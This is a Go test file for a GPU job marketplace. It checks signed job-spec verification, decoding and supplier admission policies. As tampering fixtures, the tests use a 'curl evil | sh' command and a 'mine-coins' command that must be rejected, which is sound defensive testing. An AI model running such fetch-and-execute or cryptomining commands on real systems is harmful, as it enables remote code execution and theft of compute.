package market_test

import (
	"bytes"
	"crypto/ed25519"
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/gpumesh/gpumesh/market"
	"github.com/gpumesh/gpumesh/market/markettest"
	"github.com/gpumesh/gpumesh/market/owner"
	"pgregory.net/rapid"
)

const testNetwork = "lab"

// ownerKey is a key from a fixed seed, so failures reproduce.
func ownerKey(t testing.TB, b byte) owner.Key {
	t.Helper()
	k, err := owner.KeyFromSeed(bytes.Repeat([]byte{b}, ed25519.SeedSize))
	if err != nil {
		t.Fatal(err)
	}
	return k
}

func sign(t testing.TB, k owner.Key, spec market.JobSpec) market.SignedSpec {
	t.Helper()
	s, err := market.SignSpec(k, testNetwork, spec, t0)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func TestSignedSpecVerifiesOnlyWhatItsOwnerSigned(t *testing.T) {
	alice, bob := ownerKey(t, 1), ownerKey(t, 2)
	spec := market.JobSpec{ID: "j1", Cards: 2, MaxPriceCNY: 5, Command: []string{"python", "train.py"},
		Env: map[string]string{"A": "1"}, Models: []string{"h100-*"}}
	s := sign(t, alice, spec)
	if s.Spec.Owner != string(alice.ID()) {
		t.Fatalf("owner %q, want the key's ID", s.Spec.Owner)
	}
	if err := s.Verify(testNetwork); err != nil {
		t.Fatalf("as signed: %v", err)
	}
	// Through JSON and back, as it travels: still the owner's.
	raw, _ := json.Marshal(s)
	back, err := market.DecodeSignedSpec(raw)
	if err != nil {
		t.Fatal(err)
	}
	if err := back.Verify(testNetwork); err != nil {
		t.Fatalf("after a JSON round trip: %v", err)
	}
	for name, alter := range map[string]func(*market.SignedSpec){
		"command":   func(s *market.SignedSpec) { s.Spec.Command = []string{"sh", "-c", "curl evil | sh"} },
		"env":       func(s *market.SignedSpec) { s.Spec.Env = map[string]string{"A": "2"} },
		"price":     func(s *market.SignedSpec) { s.Spec.MaxPriceCNY = 50 },
		"cards":     func(s *market.SignedSpec) { s.Spec.Cards = 3 },
		"network":   func(s *market.SignedSpec) { s.Spec.Network = market.NetworkHost },
		"memory":    func(s *market.SignedSpec) { s.Spec.MemoryBytes = 64 << 30 },
		"pids":      func(s *market.SignedSpec) { s.Spec.Pids = 100000 },
		"cpu":       func(s *market.SignedSpec) { s.Spec.CPUWeight = 10000 },
		"id":        func(s *market.SignedSpec) { s.Spec.ID = "j2" },
		"owner":     func(s *market.SignedSpec) { s.Spec.Owner = string(bob.ID()) },
		"signed at": func(s *market.SignedSpec) { s.Signature.SignedAt = s.Signature.SignedAt.Add(time.Second) },
		"signature": func(s *market.SignedSpec) {
			s.Signature.Sig = append([]byte(nil), s.Signature.Sig...)
			s.Signature.Sig[0] ^= 1
		},
		"bob's re-sig": func(s *market.SignedSpec) { s.Signature = sign(t, bob, market.JobSpec{ID: "j1"}).Signature },
	} {
		c := back
		c.Spec.Env = map[string]string{"A": "1"}
		alter(&c)
		if err := c.Verify(testNetwork); !errors.Is(err, market.ErrBadSpecSignature) {
			t.Errorf("altered %s: Verify = %v, want ErrBadSpecSignature", name, err)
		}
	}
	if err := s.Verify("another-mesh"); !errors.Is(err, market.ErrBadSpecSignature) || !strings.Contains(err.Error(), `"another-mesh"`) {
		t.Errorf("another mesh: %v", err)
	}
	unsigned := market.SignedSpec{Spec: spec}
	if err := unsigned.Verify(testNetwork); !errors.Is(err, market.ErrUnsigned) {
		t.Errorf("unsigned: %v, want ErrUnsigned", err)
	}
	named := market.SignedSpec{Spec: s.Spec}
	if err := named.Verify(testNetwork); !errors.Is(err, market.ErrUnsigned) || !strings.Contains(err.Error(), "no signature") {
		t.Errorf("owner named, no signature: %v", err)
	}
	if _, err := market.SignSpec(alice, testNetwork, market.JobSpec{ID: "j3", Owner: string(bob.ID())}, t0); err == nil {
		t.Error("alice signed a spec naming bob as owner")
	}
}

// Any valid spec survives the trip through JSON with its signature intact:
// the canonical encoding is the same on both sides.
func TestSignatureSurvivesJSONForAnySpec(t *testing.T) {
	k := ownerKey(t, 3)
	rapid.Check(t, func(rt *rapid.T) {
		spec := market.JobSpec{
			ID:               rapid.StringMatching(`[a-z0-9][a-z0-9-]{0,20}`).Draw(rt, "id"),
			Name:             rapid.StringMatching(`[ -~]{0,20}`).Draw(rt, "name"),
			Cards:            rapid.IntRange(1, 64).Draw(rt, "cards"),
			MaxPriceCNY:      rapid.Float64Range(0.01, 100).Draw(rt, "price"),
			MinComputeUnits:  rapid.Float64Range(0, 1).Draw(rt, "cu"),
			ExpectedDuration: market.Duration(rapid.Int64Range(0, int64(48*time.Hour)).Draw(rt, "duration")),
			Command:          rapid.SliceOfN(rapid.StringMatching(`[ -~]{1,10}`), 1, 4).Draw(rt, "command"),
			Env:              rapid.MapOfN(rapid.StringMatching(`[A-Z][A-Z0-9_]{0,6}`), rapid.String(), 0, 3).Draw(rt, "env"),
			Network:          rapid.SampledFrom([]market.JobNetwork{"", market.NetworkNone, market.NetworkEgress}).Draw(rt, "network"),
			Resources: market.Resources{
				MemoryBytes: rapid.SampledFrom([]int64{0, market.MinJobMemoryBytes, 16 << 30, market.MaxJobMemoryBytes}).Draw(rt, "memory"),
				Pids:        rapid.SampledFrom([]int{0, market.MinJobPids, 4096, market.MaxJobPids}).Draw(rt, "pids"),
				CPUWeight:   rapid.IntRange(0, market.MaxJobCPUWeight).Draw(rt, "cpu_weight"),
			},
		}
		s, err := market.SignSpec(k, testNetwork, spec, t0)
		if err != nil {
			rt.Fatal(err)
		}
		raw, err := json.Marshal(s)
		if err != nil {
			rt.Fatal(err)
		}
		back, err := market.DecodeSignedSpec(raw)
		if err != nil {
			rt.Fatal(err)
		}
		if err := back.Verify(testNetwork); err != nil {
			rt.Fatalf("%s: %v", raw, err)
		}
	})
}

func TestDecodeSignedSpecRefusesWhatIsNotOne(t *testing.T) {
	good, _ := json.Marshal(sign(t, ownerKey(t, 4), market.JobSpec{ID: "j1", Cards: 1, MaxPriceCNY: 1, Command: []string{"x"}}))
	for name, in := range map[string]string{
		"empty":          "",
		"not JSON":       "{",
		"unknown field":  strings.Replace(string(good), `"spec":`, `"extra":1,"spec":`, 1),
		"trailing":       string(good) + " {}",
		"short sig":      `{"spec":{"id":"j1"},"signature":{"signed_at":"2026-01-01T00:00:00Z","sig":"AAAA"}}`,
		"spec as string": `{"spec":"j1","signature":{}}`,
		"too big":        `{"spec":{"name":"` + strings.Repeat("x", market.MaxSignedSpecBytes) + `"}}`,
	} {
		if _, err := market.DecodeSignedSpec([]byte(in)); err == nil {
			t.Errorf("%s: decoded", name)
		}
	}
}

func TestSpecNetwork(t *testing.T) {
	gang := market.JobSpec{ID: "g", Cards: 8, Layout: market.Layout{Mode: market.LayoutPerNode, PerNode: 4}, MaxPriceCNY: 5, Command: []string{"x"}}
	if got := gang.NetworkOrDefault(); got != market.NetworkNone || !gang.SpansNodes() || !market.FactsOf(&gang).Gang {
		t.Errorf("a gang across nodes: default network %s, spans nodes %v; want none (and a private network), true", got, gang.SpansNodes())
	}
	for _, n := range []market.JobNetwork{market.NetworkNone, market.NetworkEgress, market.NetworkHost} {
		gang.Network = n
		if err := gang.Validate(nil); err != nil {
			t.Errorf("a gang across nodes on %s: %v", n, err)
		}
	}
	var se *market.SpecError
	gang.Cards, gang.Network = 4, "" // one node
	if got := gang.NetworkOrDefault(); got != market.NetworkNone || gang.SpansNodes() {
		t.Errorf("a per_node job on one node gets network %s by default, spans nodes %v; want none, false", got, gang.SpansNodes())
	}
	gang.Elastic = &market.Elastic{Min: 4, Max: 8} // may grow to two nodes
	if !gang.SpansNodes() {
		t.Error("a per_node job that may grow across nodes does not span nodes")
	}
	single := market.JobSpec{ID: "s", Cards: 1, MaxPriceCNY: 5, Command: []string{"x"}}
	if got := single.NetworkOrDefault(); got != market.NetworkNone {
		t.Errorf("a plain job's default network is %s, want none", got)
	}
	single.Network = "internet"
	if err := single.Validate(nil); !errors.As(err, &se) || se.Field != "network" {
		t.Errorf("network internet: %v", err)
	}
	single.Network, single.Owner = "", "alice"
	if err := single.Validate(nil); !errors.As(err, &se) || se.Field != "owner" || !strings.Contains(se.Msg, "not an owner ID") {
		t.Errorf("owner alice: %v", err)
	}
}

func TestPolicyAdmit(t *testing.T) {
	alice, bob := string(ownerKey(t, 5).ID()), string(ownerKey(t, 6).ID())
	for _, c := range []struct {
		name   string
		policy market.Policy
		facts  market.JobFacts
		want   string // "" admits
	}{
		{"zero policy", market.Policy{}, market.JobFacts{Owner: alice, Duration: 1000 * time.Hour, Network: market.NetworkHost}, ""},
		{"denied", market.Policy{DenyOwners: []string{alice}}, market.JobFacts{Owner: alice}, "deny list"},
		{"deny wins over allow", market.Policy{AllowOwners: []string{alice}, DenyOwners: []string{alice}}, market.JobFacts{Owner: alice}, "deny list"},
		{"not allowed", market.Policy{AllowOwners: []string{alice}}, market.JobFacts{Owner: bob}, "not on this supplier's allow list"},
		{"allowed", market.Policy{AllowOwners: []string{alice}}, market.JobFacts{Owner: alice}, ""},
		{"anonymous with an allow list", market.Policy{AllowOwners: []string{alice}}, market.JobFacts{}, "names no owner"},
		{"too long", market.Policy{MaxDuration: time.Hour}, market.JobFacts{Duration: 2 * time.Hour}, "expects to run 2h0m0s; this supplier runs jobs for at most 1h0m0s"},
		{"no duration", market.Policy{MaxDuration: time.Hour}, market.JobFacts{}, ""},
		{"exactly the limit", market.Policy{MaxDuration: time.Hour}, market.JobFacts{Duration: time.Hour}, ""},
		{"host on egress", market.Policy{MaxNetwork: market.NetworkEgress}, market.JobFacts{Network: market.NetworkHost}, "the job needs network host; this supplier allows at most egress"},
		{"a gang with a private network", market.Policy{MaxNetwork: market.NetworkNone}, market.JobFacts{Network: market.NetworkNone, Gang: true}, ""},
		{"a gang without one", market.Policy{MaxNetwork: market.NetworkEgress, NoPrivateNet: "the node needs nft (package nftables)"}, market.JobFacts{Network: market.NetworkNone, Gang: true},
			"a gang across nodes needs network host here (no private network: the node needs nft (package nftables)); this supplier allows at most egress"},
		{"a gang without one where host is allowed", market.Policy{NoPrivateNet: "jobs share the node's network under isolation process"}, market.JobFacts{Network: market.NetworkEgress, Gang: true},
			"(no private network: jobs share the node's network under isolation process): submit it with --net host"},
		{"a gang on host needs no private network", market.Policy{NoPrivateNet: "no"}, market.JobFacts{Network: market.NetworkHost, Gang: true}, ""},
		{"a job on one node needs none", market.Policy{NoPrivateNet: "no"}, market.JobFacts{Network: market.NetworkNone}, ""},
		{"egress on none", market.Policy{MaxNetwork: market.NetworkNone}, market.JobFacts{Network: market.NetworkEgress}, "at most none"},
		{"none on none", market.Policy{MaxNetwork: market.NetworkNone}, market.JobFacts{Network: market.NetworkNone}, ""},
		{"memory over the cap", market.Policy{MaxMemoryBytes: 16 << 30}, market.JobFacts{Resources: market.Resources{MemoryBytes: 64 << 30}},
			"the job asks for 64 GiB of memory; this supplier gives a job at most 16 GiB"},
		{"memory at the cap", market.Policy{MaxMemoryBytes: 16 << 30}, market.JobFacts{Resources: market.Resources{MemoryBytes: 16 << 30}}, ""},
		{"memory undeclared under a cap", market.Policy{MaxMemoryBytes: 16 << 30}, market.JobFacts{}, ""},
		{"memory with no cap", market.Policy{}, market.JobFacts{Resources: market.Resources{MemoryBytes: 1 << 40}}, ""},
		{"pids over the cap", market.Policy{MaxPids: 1000}, market.JobFacts{Resources: market.Resources{Pids: 1001}},
			"the job asks for 1001 processes; this supplier gives a job at most 1000"},
		{"pids at the cap", market.Policy{MaxPids: 1000}, market.JobFacts{Resources: market.Resources{Pids: 1000}}, ""},
		{"cpu weight over the cap", market.Policy{MaxCPUWeight: 200}, market.JobFacts{Resources: market.Resources{CPUWeight: 500}},
			"the job asks for CPU weight 500; this supplier gives a job at most 200"},
		{"cpu weight under the cap", market.Policy{MaxCPUWeight: 200}, market.JobFacts{Resources: market.Resources{CPUWeight: 50}}, ""},
	} {
		ok, reason := c.policy.Admit(c.facts)
		if ok != (c.want == "") || !strings.Contains(reason, c.want) {
			t.Errorf("%s: Admit = %v %q, want %q", c.name, ok, reason, c.want)
		}
	}
}

func TestPolicyInConfigIsValidated(t *testing.T) {
	for name, p := range map[string]market.Policy{
		"typo in allow": {AllowOwners: []string{string(ownerKey(t, 7).ID())[:20]}},
		"name in deny":  {DenyOwners: []string{"mallory"}},
		"negative":      {MaxDuration: -time.Second},
		"network":       {MaxNetwork: "lan"},
		"tiny memory":   {MaxMemoryBytes: 1 << 20},
		"neg memory":    {MaxMemoryBytes: -1},
		"tiny pids":     {MaxPids: 3},
		"neg pids":      {MaxPids: -1},
		"cpu weight":    {MaxCPUWeight: 10001},
		"neg weight":    {MaxCPUWeight: -1},
	} {
		cfg := market.DefaultConfig("a")
		cfg.Policy = p
		if _, err := market.New(cfg); !errors.Is(err, market.ErrInvalidConfig) || !strings.Contains(err.Error(), "Policy") {
			t.Errorf("%s: New = %v, want ErrInvalidConfig naming Policy", name, err)
		}
	}
}

func signedConfig(id, cards string) market.Config {
	cfg := market.DefaultConfig(id)
	if cards != "" {
		cfg.Cards = markettest.MustCards(id, cards)
	}
	cfg.Network, cfg.RequireSigned = testNetwork, true
	return cfg
}

func TestCoordinatorTakesOnlySignedJobs(t *testing.T) {
	n, err := market.New(signedConfig("c", ""))
	if err != nil {
		t.Fatal(err)
	}
	drain(n)
	spec := market.JobSpec{ID: "j1", Cards: 1, MaxPriceCNY: 5, Command: []string{"x"}}
	s := sign(t, ownerKey(t, 8), spec)
	altered := s
	altered.Spec.Command = []string{"y"}
	for name, c := range map[string]struct {
		ev   market.JobSubmitted
		want error
	}{
		"unsigned": {market.JobSubmitted{Now: t0, Spec: spec}, market.ErrUnsigned},
		"altered":  {market.JobSubmitted{Now: t0, Spec: altered.Spec, Signature: &altered.Signature}, market.ErrBadSpecSignature},
	} {
		if err := n.Step(c.ev); !errors.Is(err, c.want) {
			t.Errorf("%s: Step = %v, want %v", name, err, c.want)
		}
		if len(n.Jobs()) != 0 || len(drain(n).Jobs) != 0 {
			t.Fatalf("%s: the job was taken", name)
		}
	}
	if err := n.Step(market.JobSubmitted{Now: t0, Spec: s.Spec, Signature: &s.Signature}); err != nil {
		t.Fatal(err)
	}
	rec, ok := n.Job("j1")
	if !ok || rec.Signature == nil || !bytes.Equal(rec.Signature.Sig, s.Signature.Sig) {
		t.Fatalf("record %+v does not carry the signature", rec)
	}
	// A successor adopts only a record whose spec its owner signed.
	other, _ := market.New(signedConfig("d", ""))
	forged := rec
	forged.Spec.Command = []string{"y"}
	if err := other.Step(market.JobAdopted{Now: t0, Record: forged, Term: 2}); !errors.Is(err, market.ErrBadSpecSignature) {
		t.Errorf("adopting a forged record: %v", err)
	}
	if err := other.Step(market.JobAdopted{Now: t0, Record: rec, Term: 2}); err != nil {
		t.Errorf("adopting the signed record: %v", err)
	}
}

// A supplier runs only the owner's signed spec, whatever the coordinator
// says: it checks the award against the signature and its policy.
func TestSupplierRunsOnlyTheOwnersSignedSpec(t *testing.T) {
	alice, mallory := ownerKey(t, 9), ownerKey(t, 10)
	cfg := signedConfig("s", "a100-80g:1")
	cfg.Policy.DenyOwners = []string{string(mallory.ID())}
	cfg.Policy.MaxMemoryBytes = 16 << 30
	sup, err := market.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	drain(sup)
	spec := market.JobSpec{ID: "j1", Cards: 1, MaxPriceCNY: 50, Command: []string{"train"}}
	good := sign(t, alice, spec)
	round := uint64(0)
	card := sup.Cards()[0].Card.ID
	// bid reserves the card for the coordinator "c" and returns the lease.
	bid := func(claimOwner string) string {
		t.Helper()
		round++
		req := &market.BidRequest{Job: "j1", Term: 1, Round: round, Filter: market.FilterOf(&spec), Want: 1, Min: 1, Owner: claimOwner}
		if err := sup.Step(market.MessageReceived{Now: t0, Message: market.Message{From: "c", To: "s", Payload: req}}); err != nil {
			t.Fatal(err)
		}
		for _, m := range drain(sup).Messages {
			if b, ok := m.Payload.(*market.Bid); ok {
				return b.Lease
			}
		}
		t.Fatal("no bid")
		return ""
	}
	award := func(lease string, signed *market.SignedSpec, exec market.ExecSpec) market.Ready {
		t.Helper()
		a := &market.Award{Job: "j1", Term: 1, Round: round, Lease: lease, Share: 0, Epoch: round, Cards: []string{card},
			PriceCNY: 3, Start: true, Exec: exec, Kind: market.KindBatch, World: 1, Signed: signed}
		_ = sup.Step(market.MessageReceived{Now: t0, Message: market.Message{From: "c", To: "s", Payload: a}})
		return drain(sup)
	}
	rejected := func(rd market.Ready) string {
		for _, m := range rd.Messages {
			if r, ok := m.Payload.(*market.Reject); ok {
				return r.Reason
			}
		}
		return ""
	}
	forged := good
	forged.Spec.Command = []string{"sh", "-c", "mine-coins"}
	byMallory := sign(t, mallory, spec)
	greedySpec := spec
	greedySpec.MemoryBytes = 64 << 30
	greedy := sign(t, alice, greedySpec)
	shrunk := market.ExecOf(&good.Spec)
	shrunk.Pids = 16
	for _, c := range []struct {
		name   string
		signed *market.SignedSpec
		exec   market.ExecSpec
		want   string
	}{
		{"unsigned", nil, market.ExecOf(&spec), "no signed spec"},
		{"altered spec", &forged, market.ExecOf(&forged.Spec), "does not verify"},
		{"exec not the signed one", &good, market.ExecSpec{Command: []string{"sh", "-c", "mine-coins"}, Network: market.NetworkNone}, "differ from the owner's signed spec"},
		{"denied owner behind an innocent bid request", &byMallory, market.ExecOf(&byMallory.Spec), "deny list"},
		{"over-cap memory behind an innocent bid request", &greedy, market.ExecOf(&greedy.Spec), "asks for 64 GiB of memory"},
		{"resources not the signed ones", &good, shrunk, "differ from the owner's signed spec"},
	} {
		rd := award(bid(string(alice.ID())), c.signed, c.exec)
		if got := rejected(rd); !strings.Contains(got, c.want) {
			t.Errorf("%s: reject reason %q, want %q", c.name, got, c.want)
		}
		if len(rd.Start) != 0 {
			t.Fatalf("%s: started %+v", c.name, rd.Start)
		}
		if cs := sup.Cards(); cs[0].State != market.CardFree {
			t.Fatalf("%s: the card is %s after the reject", c.name, cs[0].State)
		}
	}
	rd := award(bid(string(alice.ID())), &good, market.ExecOf(&good.Spec))
	if got := rejected(rd); got != "" {
		t.Fatalf("the owner's own spec rejected: %s", got)
	}
	if len(rd.Start) != 1 || rd.Start[0].Exec.Command[0] != "train" || rd.Start[0].Exec.Network != market.NetworkNone {
		t.Fatalf("starts %+v, want the signed command with network none", rd.Start)
	}
}

// A policy's decline reason reaches the job's explanation; a job only
// declining suppliers can take waits, and says why.
func TestPolicyDeclineShowsInTheExplanation(t *testing.T) {
	alice, bob := ownerKey(t, 11), ownerKey(t, 12)
	h := markettest.New(markettest.Options{Seed: 1})
	h.MustAdd(signedConfig("coord", ""))
	picky := signedConfig("picky", "h100-sxm-80g:2")
	picky.Policy.AllowOwners = []string{string(bob.ID())}
	h.MustAdd(picky)
	open := signedConfig("open", "a100-80g:2")
	open.Policy.MaxNetwork = market.NetworkNone
	h.MustAdd(open)
	h.RunFor(50 * time.Millisecond)

	submit := func(spec market.JobSpec, k owner.Key) {
		t.Helper()
		s := sign(t, k, spec)
		if err := h.Step("coord", market.JobSubmitted{Now: h.Now, Spec: s.Spec, Signature: &s.Signature}); err != nil {
			t.Fatal(err)
		}
	}
	detail := func(id, node string) string {
		rec, _ := h.Peer("coord").Node.Job(id)
		if rec.Explanation == nil {
			return ""
		}
		for _, e := range rec.Explanation.Entries {
			if e.Node == node && e.Reason == market.ReasonDeclined {
				return e.Detail
			}
		}
		return ""
	}
	// Alice's job may use either node; picky declines her, open wins.
	submit(market.JobSpec{ID: "a1", Cards: 1, MaxPriceCNY: 50, Command: []string{"x"}}, alice)
	if !h.RunUntil(func() bool { r, _ := h.Peer("coord").Node.Job("a1"); return r.State == market.JobRunning }, 5*time.Second) {
		r, _ := h.Peer("coord").Node.Job("a1")
		t.Fatalf("alice's job did not run: %s %s", r.State, r.Reason)
	}
	if d := detail("a1", "picky"); !strings.Contains(d, "policy: owner "+alice.ID().Short()) || !strings.Contains(d, "allow list") {
		t.Errorf("picky's decline in the explanation: %q", d)
	}
	// Alice's egress job: open allows no network, picky not her: it waits.
	submit(market.JobSpec{ID: "a2", Cards: 1, MaxPriceCNY: 50, Command: []string{"x"}, Network: market.NetworkEgress}, alice)
	h.RunFor(time.Second)
	rec, _ := h.Peer("coord").Node.Job("a2")
	if rec.State.Terminal() || rec.State == market.JobRunning {
		t.Fatalf("a2 is %s; no supplier admits it", rec.State)
	}
	if d := detail("a2", "open"); !strings.Contains(d, "needs network egress; this supplier allows at most none") {
		t.Errorf("open's decline: %q\n%s", d, rec.Explanation)
	}
	if !strings.Contains(rec.Explanation.String(), "policy:") {
		t.Errorf("--explain text lacks the policy reasons:\n%s", rec.Explanation)
	}
}

// A supplier whose caps are below what a job declares does not bid for it,
// and the job's explanation says which cap; the supplier that can hold it
// runs it with the declared resources as the owner signed them.
func TestOverCapJobIsDeclinedWithTheReason(t *testing.T) {
	alice := ownerKey(t, 13)
	h := markettest.New(markettest.Options{Seed: 2})
	h.MustAdd(signedConfig("coord", ""))
	small := signedConfig("small", "rtx4090-24g:2") // cheaper: it would win if it bid
	small.Policy.MaxMemoryBytes, small.Policy.MaxPids = 16<<30, 1024
	h.MustAdd(small)
	big := signedConfig("big", "h100-sxm-80g:2")
	big.Policy.MaxMemoryBytes, big.Policy.MaxPids = 256<<30, 65536
	h.MustAdd(big)
	h.RunFor(50 * time.Millisecond)

	submit := func(spec market.JobSpec) {
		t.Helper()
		s := sign(t, alice, spec)
		if err := h.Step("coord", market.JobSubmitted{Now: h.Now, Spec: s.Spec, Signature: &s.Signature}); err != nil {
			t.Fatal(err)
		}
	}
	declined := func(id string) map[string]string {
		rec, _ := h.Peer("coord").Node.Job(id)
		out := map[string]string{}
		if rec.Explanation != nil {
			for _, e := range rec.Explanation.Entries {
				if e.Reason == market.ReasonDeclined {
					out[e.Node] = e.Detail
				}
			}
		}
		return out
	}

	want := market.Resources{MemoryBytes: 64 << 30, Pids: 2048, CPUWeight: 300}
	submit(market.JobSpec{ID: "fat", Cards: 1, MaxPriceCNY: 50, Command: []string{"x"}, Resources: want})
	if !h.RunUntil(func() bool { r, _ := h.Peer("coord").Node.Job("fat"); return r.State == market.JobRunning }, 5*time.Second) {
		r, _ := h.Peer("coord").Node.Job("fat")
		t.Fatalf("the job did not run: %s %s", r.State, r.Reason)
	}
	if d := declined("fat")["small"]; d != "policy: the job asks for 64 GiB of memory; this supplier gives a job at most 16 GiB" {
		t.Errorf("small's decline: %q", d)
	}
	if _, ok := declined("fat")["big"]; ok {
		t.Error("big declined a job within its caps")
	}
	if starts := h.Peer("small").Starts; len(starts) != 0 {
		t.Errorf("small started %+v", starts)
	}
	starts := h.Peer("big").Starts
	if len(starts) != 1 || starts[0].Exec.Resources != want {
		t.Fatalf("big's starts %+v, want one with resources %+v", starts, want)
	}

	// Over every cap, pids this time: nobody bids, the job waits and says why.
	submit(market.JobSpec{ID: "forky", Cards: 1, MaxPriceCNY: 50, Command: []string{"x"}, Resources: market.Resources{Pids: 100000}})
	h.RunFor(time.Second)
	rec, _ := h.Peer("coord").Node.Job("forky")
	if rec.State.Terminal() || rec.State == market.JobRunning {
		t.Fatalf("forky is %s; no supplier admits it", rec.State)
	}
	d := declined("forky")
	if !strings.Contains(d["small"], "asks for 100000 processes; this supplier gives a job at most 1024") ||
		!strings.Contains(d["big"], "asks for 100000 processes; this supplier gives a job at most 65536") {
		t.Errorf("declines %q", d)
	}
	if !strings.Contains(rec.Explanation.String(), "100000 processes") {
		t.Errorf("--explain text lacks the cap:\n%s", rec.Explanation)
	}
}

// A supplier stops an attempt at its time limit; the batch job fails and
// says why rather than running again elsewhere.
func TestTimeLimitStopsTheAttemptAndFailsTheJob(t *testing.T) {
	h := markettest.New(markettest.Options{Seed: 2})
	h.MustAdd(market.DefaultConfig("coord"))
	sup := market.DefaultConfig("sup")
	sup.Cards = markettest.MustCards("sup", "a100-80g:1")
	sup.Policy.MaxDuration = time.Minute
	h.MustAdd(sup)
	h.RunFor(50 * time.Millisecond)
	if err := h.SubmitAt("coord", market.JobSpec{ID: "long", Cards: 1, MaxPriceCNY: 50, Command: []string{"x"}}); err != nil {
		t.Fatal(err)
	}
	ok := h.RunUntil(func() bool { r, _ := h.Job("long"); return r.State.Terminal() }, 3*time.Minute)
	rec, _ := h.Job("long")
	if !ok || rec.State != market.JobFailed || !strings.Contains(rec.Reason, "as long as its supplier allows") {
		t.Fatalf("job %s: %s", rec.State, rec.Reason)
	}
	var stopped bool
	for _, s := range h.Peer("sup").Stops {
		stopped = stopped || s.Cause == market.CauseTimeLimit
	}
	if !stopped {
		t.Error("the supplier never stopped the attempt for its time limit")
	}
	if len(rec.Placements) != 1 || rec.Placements[0].Cause != market.CauseTimeLimit {
		t.Errorf("placements %+v: want one, ended by the time limit", rec.Placements)
	}
	// The coordinator hears of the start and the end a renewal late.
	if run := rec.Placements[0].EndedAt.Sub(rec.Placements[0].StartedAt); run < 59*time.Second || run > 61*time.Second {
		t.Errorf("the attempt ran %v, want about the 1m limit", run)
	}
}

// FuzzDecodeSignedSpec: whatever arrives, decoding either refuses it or
// yields a signed spec that encodes and decodes to the same thing, whose
// Verify and Validate answer without panicking; and a spec that verifies
// was signed by the test key for this mesh, as it is.
func FuzzDecodeSignedSpec(f *testing.F) {
	k := ownerKey(f, 13)
	good, _ := json.Marshal(sign(f, k, market.JobSpec{ID: "j1", Cards: 1, MaxPriceCNY: 1, Command: []string{"x"}, Env: map[string]string{"A": "b"}}))
	f.Add(good)
	f.Add([]byte(`{"spec":{"id":"j1"},"signature":{"signed_at":"2026-01-01T00:00:00Z","sig":null}}`))
	f.Add([]byte(`{}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		s, err := market.DecodeSignedSpec(data)
		if err != nil {
			return
		}
		again, err := json.Marshal(s)
		if err != nil {
			t.Fatalf("re-encoding %q: %v", data, err)
		}
		s2, err := market.DecodeSignedSpec(again)
		if err != nil {
			t.Fatalf("decoding our own encoding %s: %v", again, err)
		}
		e1, _ := json.Marshal(s2)
		if !bytes.Equal(again, e1) {
			t.Fatalf("not stable: %s then %s", again, e1)
		}
		_ = s.Spec.Validate(nil)
		if s.Verify(testNetwork) == nil && s.Spec.Owner != string(k.ID()) {
			t.Fatalf("a spec of owner %q verified without its key: %s", s.Spec.Owner, data)
		}
	})
}
